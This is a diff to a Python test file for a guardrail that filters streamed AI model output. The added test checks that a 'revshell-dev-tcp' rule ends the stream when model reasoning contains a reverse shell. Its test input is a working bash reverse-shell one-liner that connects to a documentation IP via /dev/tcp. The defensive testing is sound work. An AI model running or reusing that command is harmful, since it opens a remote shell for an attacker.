@@ -363,6 +363,54 @@ def test_an_upstream_failing_after_a_complete_answer_adds_no_error_event(anthrop
     assert events[-1]["type"] == ("message_stop" if anthropic else "response.completed") and reported == []
 
 
+REVERSE_SHELL = "try bash -i >& /dev/tcp/203.0.113.7/4242 0>&1 ok"
+
+
+@pytest.mark.parametrize("anthropic", [True, False], ids=["messages", "responses"])
+def test_a_block_rule_in_the_reasoning_ends_the_streamed_answer_there(anthropic):
+    """As in a chat stream and in every whole answer: after the notice, no later text (nor call) is sent."""
+    answer = "Here is the answer text after."
+    if anthropic:
+        frames = [sse("message_start", {"type": "message_start", "message": {"id": "m", "content": []}})]
+        for index, (kind, field, delta, text) in enumerate((("thinking", "thinking", "thinking_delta", REVERSE_SHELL),
+                                                            ("text", "text", "text_delta", answer))):
+            frames += [sse("content_block_start", {"type": "content_block_start", "index": index,
+                                                   "content_block": {"type": kind, field: ""}})]
+            frames += [sse("content_block_delta", {"type": "content_block_delta", "index": index,
+                                                   "delta": {"type": delta, field: text[i:i + 5]}})
+                       for i in range(0, len(text), 5)]
+            frames += [sse("content_block_stop", {"type": "content_block_stop", "index": index})]
+        frames += [sse("message_delta", {"type": "message_delta", "delta": {"stop_reason": "end_turn"}}),
+                   sse("message_stop", {"type": "message_stop"})]
+
+        async def stream():
+            for frame in frames:
+                yield frame
+
+        out = b"".join(asyncio.run(collect(filter_anthropic_stream(stream(), real_checks())))).decode()
+        events = [json.loads(ln[6:]) for ln in out.splitlines() if ln.startswith("data: ")]
+        assert [e["type"] for e in events][-2:] == ["message_delta", "message_stop"]
+        assert not any(e.get("index") == 1 for e in events), events  # the text block is not begun
+    else:
+        events = [{"type": "response.created", "response": {"id": "r", "output": []}}]
+        for index, (family, text) in enumerate((("response.reasoning_text", REVERSE_SHELL),
+                                                ("response.output_text", answer))):
+            events += [{"type": f"{family}.delta", "output_index": index, "content_index": 0, "item_id": f"i{index}",
+                        "delta": text[i:i + 5]} for i in range(0, len(text), 5)]
+            events += [{"type": f"{family}.done", "output_index": index, "content_index": 0, "text": text}]
+        events += [{"type": "response.completed", "response": {"id": "r", "output": [
+            {"type": "reasoning", "content": [{"type": "reasoning_text", "text": REVERSE_SHELL}]},
+            {"type": "message", "content": [{"type": "output_text", "text": answer}]}]}}]
+
+        async def stream():
+            for seq, e in enumerate(events):
+                yield {**e, "sequence_number": seq}
+
+        out = json.dumps(asyncio.run(collect(filter_responses_stream(stream(), real_checks()))))
+    assert "blocked by carrot guardrails: revshell-dev-tcp" in out and "/dev/tcp" not in out
+    assert "answer text after" not in out and "answer" not in out.split("blocked by carrot guardrails")[-1], out
+
+
 def test_non_streamed_bodies_are_checked():
     msg = check_anthropic_message({"content": [{"type": "text", "text": f"k {SECRET}"},
                                                {"type": "tool_use", "input": {"a": [SECRET]}}]}, real_checks())
